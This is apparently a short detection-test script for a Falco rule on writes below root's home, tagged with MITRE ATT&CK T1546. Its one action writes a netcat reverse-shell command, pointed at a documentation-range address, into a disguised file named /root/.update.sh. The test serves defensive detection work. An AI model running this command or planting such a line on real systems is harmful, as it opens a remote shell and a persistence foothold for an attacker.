#!/bin/sh
# title: File written in root's home
# technique: T1546 Event Triggered Execution
# source: https://attack.mitre.org/techniques/T1546/ ; Falco "Write below root"
# expect: Write below root's home
echo 'nc 198.51.100.1 4444 -e /bin/sh' > /root/.update.sh
